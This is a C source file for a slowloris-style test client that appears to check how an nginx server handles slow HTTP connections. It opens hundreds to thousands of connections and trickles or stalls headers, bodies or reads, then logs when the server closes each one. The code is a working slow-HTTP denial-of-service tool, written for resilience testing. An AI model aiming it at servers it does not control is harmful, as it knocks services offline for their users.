/*
 * adv_slow: slow HTTP clients against nginx, for the slowloris test (t0110).
 * Opens N connections (from a chosen loopback source address) and keeps
 * them slow for at most SECONDS, recording when and how the server ends
 * each one.  Single-threaded, one poll() over every connection.
 *
 *   adv_slow [-m MODE] [-n CONNS] [-d SECONDS] [-i INTERVAL_MS] [-s SRC_IP]
 *            [-p PATH] [-b BODY] HOST PORT
 *
 * MODE:
 *   header        request line, then one more header line every INTERVAL_MS,
 *                 never the blank line (classic slowloris)
 *   header-stall  half a request line, then nothing
 *   body          complete headers announcing a 1 MB body, then one body
 *                 byte every INTERVAL_MS
 *   body-stall    complete headers and 10 body bytes, then nothing
 *   read          a complete request (BODY), then read the answer one byte
 *                 every INTERVAL_MS with a tiny receive window
 *
 * Prints one line:
 *   mode M conns N opened O closed C first_close_ms F median_close_ms D
 *   last_close_ms L still_open S status <code>:<count>,... bytes_read R
 * The server ends a connection by closing it (with or without an answer,
 * e.g. 408); "status" counts the answers' HTTP codes (none = no answer).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "banned.h"

struct conn {
	int fd;
	int open;
	long long closed_ms; /* since start; -1 while open */
	int status;          /* HTTP status of the answer, 0 = none */
	char head[16];       /* first bytes of the answer */
	size_t head_len;
	long sent_lines;
};

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int cmp_ll(const void *a, const void *b)
{
	long long x = *(const long long *)a, y = *(const long long *)b;

	return x < y ? -1 : x > y;
}

static void sendstr(struct conn *c, const char *s, size_t n)
{
	if (c->open && send(c->fd, s, n, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN)
		c->open = 0; /* noticed as closed by the next read */
}

static void take_head(struct conn *c, const char *b, ssize_t n)
{
	for (ssize_t i = 0; i < n && c->head_len < sizeof(c->head) - 1; i++)
		c->head[c->head_len++] = b[i];
	c->head[c->head_len] = '\0';
	if (!c->status && c->head_len >= 12 && !strncmp(c->head, "HTTP/1.", 7))
		c->status = (int)strtol(c->head + 9, NULL, 10);
}

int main(int argc, char **argv)
{
	const char *mode = "header", *src = "127.0.0.1", *path = "/api/serverless", *body = "{}";
	long n = 100, secs = 15, interval = 1000, bytes_read = 0;
	struct sockaddr_in to = { .sin_family = AF_INET }, from = { .sin_family = AF_INET };
	struct conn *cs;
	struct pollfd *ps;
	long long t0, next_tick;
	int opt, opened = 0;
	char req[2048];

	while ((opt = getopt(argc, argv, "m:n:d:i:s:p:b:")) != -1) {
		switch (opt) {
		case 'm': mode = optarg; break;
		case 'n': n = strtol(optarg, NULL, 10); break;
		case 'd': secs = strtol(optarg, NULL, 10); break;
		case 'i': interval = strtol(optarg, NULL, 10); break;
		case 's': src = optarg; break;
		case 'p': path = optarg; break;
		case 'b': body = optarg; break;
		default: return 2;
		}
	}
	if (optind + 2 != argc || n < 1 || n > 4000 || secs < 1 || secs > 600 || interval < 10) {
		fprintf(stderr, "usage: adv_slow [-m header|header-stall|body|body-stall|read] [-n CONNS<=4000] "
				"[-d SECONDS] [-i INTERVAL_MS] [-s SRC_IP] [-p PATH] [-b BODY] HOST PORT\n");
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	if (inet_pton(AF_INET, argv[optind], &to.sin_addr) != 1 || inet_pton(AF_INET, src, &from.sin_addr) != 1)
		return 2;
	to.sin_port = htons((unsigned short)strtoul(argv[optind + 1], NULL, 10));
	cs = calloc((size_t)n, sizeof(*cs));
	ps = calloc((size_t)n, sizeof(*ps));
	if (!cs || !ps)
		return 1;
	t0 = now_ms();
	for (long i = 0; i < n; i++) {
		struct conn *c = &cs[i];
		int one = 1, small = 256;

		c->closed_ms = -1;
		c->fd = socket(AF_INET, SOCK_STREAM, 0);
		if (c->fd < 0)
			continue;
		setsockopt(c->fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		if (!strcmp(mode, "read"))
			setsockopt(c->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
		if (bind(c->fd, (struct sockaddr *)&from, sizeof(from)) < 0 ||
		    connect(c->fd, (struct sockaddr *)&to, sizeof(to)) < 0) {
			close(c->fd);
			c->fd = -1;
			continue;
		}
		c->open = 1;
		opened++;
		if (!strcmp(mode, "header")) {
			snprintf(req, sizeof(req), "POST %s HTTP/1.1\r\nHost: localhost\r\n", path);
		} else if (!strcmp(mode, "header-stall")) {
			snprintf(req, sizeof(req), "POST %s HT", path);
		} else if (!strcmp(mode, "body")) {
			snprintf(req, sizeof(req), "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
				 "Content-Length: 1000000\r\n\r\n{", path);
		} else if (!strcmp(mode, "body-stall")) {
			snprintf(req, sizeof(req), "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
				 "Content-Length: 1000000\r\n\r\n{\"input\":1", path);
		} else if (!strcmp(mode, "read")) {
			snprintf(req, sizeof(req), "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
				 "Content-Length: %zu\r\nConnection: close\r\n\r\n%s", path, strlen(body), body);
		} else {
			fprintf(stderr, "adv_slow: unknown mode %s\n", mode);
			return 2;
		}
		sendstr(c, req, strlen(req));
	}
	next_tick = now_ms() + interval;
	for (;;) {
		long long now = now_ms();
		int still = 0, k = 0;

		if (now - t0 >= secs * 1000)
			break;
		for (long i = 0; i < n; i++) {
			cs[i].open = cs[i].open && cs[i].fd >= 0 && cs[i].closed_ms < 0;
			if (cs[i].fd >= 0 && cs[i].closed_ms < 0) {
				still++;
				/* slow readers are read on the tick only */
				ps[k].fd = cs[i].fd;
				ps[k].events = strcmp(mode, "read") ? POLLIN : 0;
				ps[k].revents = 0;
				k++;
			}
		}
		if (!still)
			break;
		poll(ps, (nfds_t)k, (int)(next_tick > now ? (next_tick - now < 200 ? next_tick - now : 200) : 0));
		now = now_ms();
		for (long i = 0, j = 0; i < n; i++) {
			struct conn *c = &cs[i];
			char b[4096];
			ssize_t r;

			if (c->fd < 0 || c->closed_ms >= 0)
				continue;
			if (ps[j++].revents & (POLLIN | POLLHUP | POLLERR)) {
				r = recv(c->fd, b, sizeof(b), MSG_DONTWAIT);
				if (r > 0) {
					take_head(c, b, r);
					bytes_read += r;
				}
				if (r == 0 || (r < 0 && errno != EAGAIN)) {
					c->closed_ms = now - t0;
					close(c->fd);
					c->fd = -1;
				}
			}
		}
		if (now >= next_tick) {
			next_tick += interval;
			for (long i = 0; i < n; i++) {
				struct conn *c = &cs[i];
				char line[64];

				if (c->fd < 0 || c->closed_ms >= 0)
					continue;
				if (!strcmp(mode, "header")) {
					snprintf(line, sizeof(line), "X-Slow-%ld: y\r\n", c->sent_lines++);
					sendstr(c, line, strlen(line));
				} else if (!strcmp(mode, "body")) {
					sendstr(c, " ", 1);
				} else if (!strcmp(mode, "read")) {
					char b1;
					ssize_t r = recv(c->fd, &b1, 1, MSG_DONTWAIT);
					if (r == 1) {
						take_head(c, &b1, 1);
						bytes_read++;
					} else if (r == 0 || (r < 0 && errno != EAGAIN)) {
						c->closed_ms = now - t0;
						close(c->fd);
						c->fd = -1;
					}
				}
			}
		}
	}
	{
		long long *closes = calloc((size_t)n, sizeof(long long));
		int nc = 0, still = 0, codes[600] = { 0 }, none = 0, first = 1;

		for (long i = 0; i < n; i++) {
			if (cs[i].closed_ms >= 0)
				closes[nc++] = cs[i].closed_ms;
			else if (cs[i].fd >= 0)
				still++;
			if (cs[i].status > 0 && cs[i].status < 600)
				codes[cs[i].status]++;
			else if (cs[i].closed_ms >= 0)
				none++;
		}
		qsort(closes, (size_t)nc, sizeof(long long), cmp_ll);
		printf("mode %s conns %ld opened %d closed %d first_close_ms %lld median_close_ms %lld last_close_ms %lld "
		       "still_open %d status ", mode, n, opened, nc, nc ? closes[0] : -1LL, nc ? closes[nc / 2] : -1LL,
		       nc ? closes[nc - 1] : -1LL, still);
		for (int s = 0; s < 600; s++)
			if (codes[s]) {
				printf("%s%d:%d", first ? "" : ",", s, codes[s]);
				first = 0;
			}
		if (none) {
			printf("%snone:%d", first ? "" : ",", none);
			first = 0;
		}
		if (first)
			printf("-");
		printf(" bytes_read %ld\n", bytes_read);
		free(closes);
	}
	for (long i = 0; i < n; i++)
		if (cs[i].fd >= 0)
			close(cs[i].fd);
	free(cs);
	free(ps);
	return 0;
}
